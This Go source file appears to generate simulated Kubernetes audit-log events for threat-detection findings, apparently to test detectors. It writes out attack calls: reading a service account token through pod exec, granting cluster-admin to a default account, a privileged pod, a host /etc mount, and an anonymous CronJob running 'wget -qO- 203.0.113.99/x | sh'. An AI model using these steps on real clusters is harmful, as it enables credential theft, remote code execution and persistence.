package simulate

import "maps"

const rbac = "rbac.authorization.k8s.io"

// admin is a person who came in by IAM, as on EKS.
func admin() user {
	return user{
		Username: "kubernetes-admin", UID: "aws-iam-authenticator:111122223333:AROAEXAMPLEEXAMPLE00",
		Groups: []string{"system:masters", "system:authenticated"},
		Extra: map[string][]string{
			"accessKeyId": {"ASIAEXAMPLEEXAMPLE00"}, "principalId": {"AROAEXAMPLEEXAMPLE00"}, "sessionName": {"alice"},
			"arn":          {"arn:aws:sts::111122223333:assumed-role/platform-admin/alice"},
			"canonicalArn": {"arn:aws:iam::111122223333:role/platform-admin"},
		},
	}
}

func anonymous() user {
	return user{Username: "system:anonymous", Groups: []string{"system:unauthenticated"}}
}

// auditWriters write lines of an audit log.
func auditWriters() map[string]writer {
	all := scenarios()
	maps.Copy(all, listedCallers())
	out := inLines(all)
	maps.Copy(out, clusterWriters())
	return out
}

// scenarios are the calls of each type. The first ones are ordinary.
func scenarios() map[string][]call {
	return map[string][]call{
		"Execution:Kubernetes/ExecInKubeSystemPod": {
			{verb: "get", uri: "/api/v1/namespaces/kube-system/pods/coredns-7d764666f9-4xk2p", who: admin(), code: 200, level: "Request",
				ref: ref("", "v1", "pods", "kube-system", "coredns-7d764666f9-4xk2p", "")},
			{verb: "get", uri: "/api/v1/namespaces/kube-system/pods/coredns-7d764666f9-4xk2p/exec?command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken&container=coredns&stdout=true",
				who: admin(), code: 101, level: "Request", stage: "ResponseStarted",
				ref: ref("", "v1", "pods", "kube-system", "coredns-7d764666f9-4xk2p", "exec")},
		},
		"Policy:Kubernetes/AdminAccessToDefaultServiceAccount": {
			binding("ClusterRoleBinding", "", "default-admin", "cluster-admin", object{"kind": "ServiceAccount", "name": "default", "namespace": "default"}),
		},
		"Policy:Kubernetes/AnonymousAccessGranted": {
			binding("ClusterRoleBinding", "", "anonymous-view", "view", object{"kind": "User", "apiGroup": rbac, "name": "system:anonymous"}),
		},
		"Policy:Kubernetes/ExposedDashboard":         {exposed("kubernetes-dashboard", "kubernetes-dashboard", "k8s-app", "kubernetes-dashboard")},
		"Policy:Kubernetes/KubeflowDashboardExposed": {exposed("kubeflow", "centraldashboard", "app", "centraldashboard")},
		"PrivilegeEscalation:Kubernetes/PrivilegedContainer": {
			pod("ubuntu-privileged", object{"name": "shell", "image": "ubuntu", "securityContext": object{"privileged": true}}),
		},
		"Persistence:Kubernetes/ContainerWithSensitiveMount": {
			pod("ubuntu-host-etc", object{"name": "shell", "image": "ubuntu",
				"volumeMounts": []object{{"name": "etc", "mountPath": "/host-etc"}}}, object{"name": "etc", "hostPath": object{"path": "/etc"}}),
		},
		"CredentialAccess:Kubernetes/SuccessfulAnonymousAccess": {
			{verb: "list", uri: "/api/v1/secrets?limit=500", who: anonymous(), code: 200, level: "Metadata", ref: ref("", "v1", "secrets", "", "", "")},
		},
		"Discovery:Kubernetes/SuccessfulAnonymousAccess": {
			{verb: "list", uri: "/api/v1/namespaces/default/pods/", who: anonymous(), code: 200, level: "Request", ref: ref("", "v1", "pods", "default", "", "")},
		},
		"DefenseEvasion:Kubernetes/SuccessfulAnonymousAccess": {
			{verb: "deletecollection", uri: "/api/v1/namespaces/default/events", who: anonymous(), code: 200, level: "Metadata", ref: ref("", "v1", "events", "default", "", "")},
		},
		"Impact:Kubernetes/SuccessfulAnonymousAccess": {
			{verb: "delete", uri: "/apis/apps/v1/namespaces/default/deployments/shop", who: anonymous(), code: 200, level: "Metadata",
				ref: ref("apps", "v1", "deployments", "default", "shop", "")},
		},
		"Persistence:Kubernetes/SuccessfulAnonymousAccess": {anonymousCronJob()},
	}
}

func ref(group, version, resource, namespace, name, sub string) *objectRef {
	return &objectRef{Resource: resource, Namespace: namespace, Name: name, APIGroup: group, APIVersion: version, Subresource: sub}
}

func binding(kind, namespace, name, role string, subject object) call {
	body := object{
		"kind": kind, "apiVersion": rbac + "/v1", "metadata": object{"name": name, "creationTimestamp": nil},
		"subjects": []object{subject}, "roleRef": object{"apiGroup": rbac, "kind": "ClusterRole", "name": role},
	}
	return call{
		verb: "create", uri: "/apis/" + rbac + "/v1/clusterrolebindings?fieldManager=kubectl-create&fieldValidation=Strict",
		who: admin(), code: 201, ref: ref(rbac, "v1", "clusterrolebindings", namespace, name, ""), request: body,
		response: with(body, "metadata", object{"name": name, "uid": "3d8bd2a6-0c6f-4a7b-8a3c-6f0a8d1f0b11", "resourceVersion": "18211"}),
	}
}

func exposed(namespace, name, label, value string) call {
	return call{
		verb: "patch", uri: "/api/v1/namespaces/" + namespace + "/services/" + name + "?fieldManager=kubectl-patch",
		who: admin(), code: 200, ref: ref("", "v1", "services", namespace, name, ""),
		request: object{"spec": object{"type": "LoadBalancer"}},
		response: object{
			"kind": "Service", "apiVersion": "v1",
			"metadata": object{"name": name, "namespace": namespace, "uid": "b5a7b1c2-7d8e-4f90-9a1b-2c3d4e5f6071", "labels": object{label: value}},
			"spec":     object{"type": "LoadBalancer", "selector": object{label: value}, "ports": []object{{"protocol": "TCP", "port": 443, "targetPort": 8443}}},
		},
	}
}

func pod(name string, container object, volumes ...object) call {
	body := object{
		"kind": "Pod", "apiVersion": "v1", "metadata": object{"name": name, "namespace": "default"},
		"spec": object{"containers": []object{container}, "volumes": volumes, "restartPolicy": "Never", "serviceAccountName": "default"},
	}
	return call{
		verb: "create", uri: "/api/v1/namespaces/default/pods?fieldManager=kubectl-client-side-apply&fieldValidation=Strict",
		who: admin(), code: 201, ref: ref("", "v1", "pods", "default", name, ""), request: body,
		response: with(body, "metadata", object{"name": name, "namespace": "default", "uid": "c0ffee00-1111-4222-8333-444455556666"}),
	}
}

func anonymousCronJob() call {
	body := object{
		"kind": "CronJob", "apiVersion": "batch/v1", "metadata": object{"name": "sync", "namespace": "default"},
		"spec": object{"schedule": "*/5 * * * *", "jobTemplate": object{"spec": object{"template": object{"spec": object{
			"containers": []object{{"name": "sync", "image": "alpine", "command": []string{"sh", "-c", "wget -qO- 203.0.113.99/x | sh"}}}, "restartPolicy": "Never",
		}}}}},
	}
	return call{
		verb: "create", uri: "/apis/batch/v1/namespaces/default/cronjobs", who: anonymous(), code: 201,
		ref: ref("batch", "v1", "cronjobs", "default", "sync", ""), request: body,
	}
}

// with copies an object and replaces one member.
func with(o object, key string, v any) object {
	out := object{}
	for k, old := range o {
		out[k] = old
	}
	out[key] = v
	return out
}
